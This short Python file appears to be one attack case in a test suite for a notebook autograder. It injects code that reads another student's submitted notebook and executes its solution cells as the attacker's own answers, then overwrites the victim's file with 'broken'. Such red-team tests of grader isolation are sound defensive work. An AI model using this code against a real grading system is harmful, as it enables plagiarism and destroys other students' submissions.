"""Runs another student's submission, then destroys it."""

from attacks.tools import after, put


def attack(notebook, folder, school):
    path = str(school.root / "submitted/honest-00/ps1/p1.ipynb")
    source = f"""
    import json
    for cell in json.load(open({path!r}))['cells']:
        if cell['metadata'].get('nbgrader', {{}}).get('solution'): exec(''.join(cell['source']), globals())
    """
    for name in ("scale", "softmax", "counter", "weights"):
        put(notebook, name, source)
    after(notebook, f"open({path!r}, 'w').write('broken')")
